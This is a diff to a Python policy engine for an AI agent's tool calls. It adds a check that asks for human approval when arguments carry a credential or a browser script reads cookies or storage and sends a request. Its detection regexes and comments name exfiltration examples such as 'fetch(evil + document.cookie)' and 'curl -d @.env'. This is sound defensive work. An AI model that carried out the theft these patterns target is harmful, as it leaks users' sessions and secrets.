@@ -45,7 +45,7 @@ from urllib.parse import unquote, urlsplit
 
 from policy.engine import destructive
 from policy.engine.bash_types import BashAnalysis, SimpleCommand
-from policy.engine.commands import CRITICAL_FILES, SYSTEM_DIRS, critical_file, venv_activate
+from policy.engine.commands import CRITICAL_FILES, SYSTEM_DIRS, credential_in, critical_file, venv_activate
 from policy.engine.commands import PRIVILEGE as PRIVILEGE_NAMES
 from policy.engine.paths import (HARMLESS_WRITE_TARGETS, HOME_DIR, glob_dir, home_of, is_inside, normalize_path,
                                  posix_spelling)
@@ -166,6 +166,7 @@ REASON_ENGINE_ERROR = "engine error ({error}): denied, failing closed"
 REASON_BAD_URL = "the URL could not be read with certainty"
 REASON_INTERNAL_URL = "fetches from {host}, an address on this machine or its private network"
 REASON_RISKY_SQL = "database statement that {what}"
+REASON_SENDS_CREDENTIAL = "sends what looks like a credential ({what}) to {tool}"
 
 from policy.engine.types import ENGINE_ERROR_CHECK  # noqa: E402  (re-exported)
 
@@ -224,6 +225,12 @@ _PROSE_TOOL = re.compile(r"issue|pull_request|comment|message|post|chat|slack|di
                          r"observation|knowledge|remember|recall", re.I)
 # a browser's page script (puppeteer_evaluate {"script": "document.title"}) is no shell
 _BROWSER_TOOL = re.compile(r"puppeteer|playwright|browser|chrome|selenium|webdriver", re.I)
+# what a page holds of the user's sessions, and the ways a page script sends it out
+_PAGE_SECRET = re.compile(r"document\s*\.\s*cookie|document\s*\[\s*['\"]cookie|localStorage|sessionStorage|indexedDB"
+                          r"|credentials\s*\.\s*get|cookieStore")
+_PAGE_SEND = re.compile(r"fetch\s*\(|XMLHttpRequest|sendBeacon|WebSocket|EventSource|\.src\s*=|\.href\s*="
+                        r"|location\s*=|location\s*\.\s*(?:assign|replace)|window\s*\.\s*open|\.submit\s*\(|\.action\s*="
+                        r"|import\s*\(|\$\.(?:ajax|get|post)|axios", re.I)
 _MEMO_TEXT = 1024   # texts up to this length have their pattern hits remembered
 # risky findings that may be a catastrophe the analysis could not rule out
 _UNSURE_CATASTROPHES = frozenset({"rm_recursive_unknown", "code_catastrophe_unknown"})
@@ -2076,7 +2083,14 @@ class _Evaluation:
         verdict = self.s.mode_defaults[row][self.mode]
         if verdict == "llm":
             return self.decide(ASK, REASON_LLM.format(command=self.command), "mode_default", row, llm=True)
-        if row == "other_tools" and verdict == ALLOW and self.tool == "WebFetch" and "url" in self.args:
+        sent = self.sent_credential() if row in ("other_tools", "read_tools") and verdict == ALLOW \
+            and self.mode != BYPASS else None
+        if sent is not None:
+            # a key in an issuer's format, a URL's password or secret-named parameter
+            # handed to a tool that sends it on (WebFetch's address, an MCP post): the
+            # secret is leaving, asked as curl -d @.env is (BYPASS skips it, as it skips that)
+            return self.decide(ASK, REASON_SENDS_CREDENTIAL.format(what=sent, tool=self.tool), "mode_default", row)
+        elif row == "other_tools" and verdict == ALLOW and self.tool == "WebFetch" and "url" in self.args:
             host = url_host(self.args.get("url"))
             if host is None:
                 return self.decide(ASK, REASON_BAD_URL + f": {str(self.args.get('url'))[:200]}", "mode_default", row)
@@ -2130,6 +2144,25 @@ class _Evaluation:
             if skipped is not None:
                 reason = REASON_BYPASS_SKIPPED.format(what=_ROW_WHAT_ANYWHERE.get(row, row), reason=skipped.reason)
         return self.decide(verdict, reason, "mode_default", row)
+
+    def sent_credential(self) -> str | None:
+        """A literal credential in the arguments of a tool that sends them somewhere:
+        WebFetch, WebSearch, an MCP resource's address, an MCP or custom tool (lower-case
+        or mcp__ names); the agent's own built-ins (TodoWrite, Task...) keep their words."""
+        if not (self.tool in ("WebFetch", "WebSearch", "ReadMcpResourceTool") or not self.tool[:1].isupper()):
+            return None
+        leaves: list[str] = []
+        _string_leaves(self.args, leaves)
+        browser = _BROWSER_TOOL.search(self.tool) is not None
+        for v in leaves:
+            hit = credential_in(v)
+            if hit is not None:
+                return hit
+            if browser and _PAGE_SECRET.search(v) and _PAGE_SEND.search(v):
+                # a page script that reads the session's cookies or storage and makes a
+                # request (fetch(evil + document.cookie), an image's src, a beacon)
+                return _PAGE_SECRET.search(v).group(0)
+        return None
 
     def risky_sql(self) -> str | None:
         """What a database tool's SQL does that a person should see first (destructive.risky_sql)."""
